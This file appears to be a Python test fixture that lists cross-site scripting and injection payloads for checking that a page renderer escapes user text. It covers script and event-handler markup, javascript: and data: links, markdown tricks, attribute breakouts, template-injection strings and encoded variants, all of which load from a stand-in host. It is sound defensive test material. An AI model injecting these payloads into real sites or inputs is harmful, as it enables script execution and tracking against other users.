"""Texts that try to become script, markup or a request when a page shows them.

Each is one way in, written plainly, in capitals, or with its signs spelt as entities. What runs
would set `window.ran`; what loads would ask a host that does not exist.
"""

import re
from collections.abc import Iterator
from html import escape

RUN = "window.ran=1"
HOST = "gk-evil.invalid"
_TAG = re.compile(r"</?\w+")
_LOAD = f"//{HOST}/x"

_ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<script src={_LOAD}></script>",
    f"<script type=module>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src='{_LOAD}.png'>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>甲</text></a></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<body onload={RUN}>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src={_LOAD}></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src={_LOAD}>",
    f"<details open ontoggle={RUN}>甲</details>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<button autofocus onfocus={RUN}>甲</button>",
    f"<marquee onstart={RUN}>甲</marquee>",
    f"<p onmouseover={RUN}>甲</p>",
    f"<a href='javascript:{RUN}'>甲</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>甲</a>",
    f"<form action='javascript:{RUN}'><button>甲</button></form>",
    f"<button formaction='javascript:{RUN}'>甲</button>",
    f"<link rel=stylesheet href={_LOAD}>",
    f"<style>@import '{_LOAD}';</style>",
    f"<p style='background:url({_LOAD})'>甲</p>",
    f"<meta http-equiv=refresh content='0;url={_LOAD}'>",
    f"<base href='{_LOAD}/'>",
    f"<template><img src=x onerror={RUN}></template>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
)
_ATTRIBUTES = (
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f'" autofocus onfocus={RUN} x="',
    f"' autofocus onfocus={RUN} x='",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" style="background:url({_LOAD})',
    f"` onmouseover=`{RUN}",
)
_MARKDOWN = (
    f"[甲](javascript:{RUN})",
    f"[甲](JaVaScRiPt:{RUN})",
    f"[甲](java&#10;script:{RUN})",
    f"[甲](&#106;avascript:{RUN})",
    f"[甲](vbscript:{RUN})",
    f"[甲](data:text/html,<script>{RUN}</script>)",
    f"![甲](javascript:{RUN})",
    f"![甲](https:{_LOAD}.png)",
    f'![甲](照片/水渠.jpg"onerror="{RUN})',
    f'[甲](https://example.cn "x\\" onmouseover=\\"{RUN}")',
    f"[甲][1]\n\n[1]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    f"```\n</code></pre><script>{RUN}</script>\n```",
    f"```html onmouseover={RUN}\n甲\n```",
    f"`</code><script>{RUN}</script>`",
    f"| 甲 |\n| --- |\n| <img src=x onerror={RUN}> |",
    f"> <script>{RUN}</script>",
    f"# 甲 {{: onmouseover={RUN} }}",
    f"甲\n{{: onmouseover={RUN} }}",
)
_OTHERS = (
    "{{ ''.__class__ }}",
    "{% include 'pages/home.html' %}",
    "{{ config }}",
    "--8<-- 'site_config.yml'",
    '#eval("1")',
    '#import "x.typ": *',
    "${window.ran=1}",
    f"';{RUN};//",
    f"\\u003cscript\\u003e{RUN}",
    f"＜script＞{RUN}＜/script＞",
    f"+ADw-script+AD4-{RUN}",
    f"%3Cscript%3E{RUN}%3C/script%3E",
)


def elements() -> Iterator[str]:
    """Yield markup as it is, spelt as entities, and with its names in capitals."""
    for text in _ELEMENTS:
        yield text
        yield escape(text)
        yield _TAG.sub(lambda tag: tag[0].upper(), text)


def texts() -> list[str]:
    """Return every hostile text once."""
    return list(dict.fromkeys((*elements(), *_ATTRIBUTES, *_MARKDOWN, *_OTHERS)))


def lines() -> list[str]:
    """Return those that fit on one line, as in a title or a cell."""
    return [text for text in texts() if "\n" not in text]
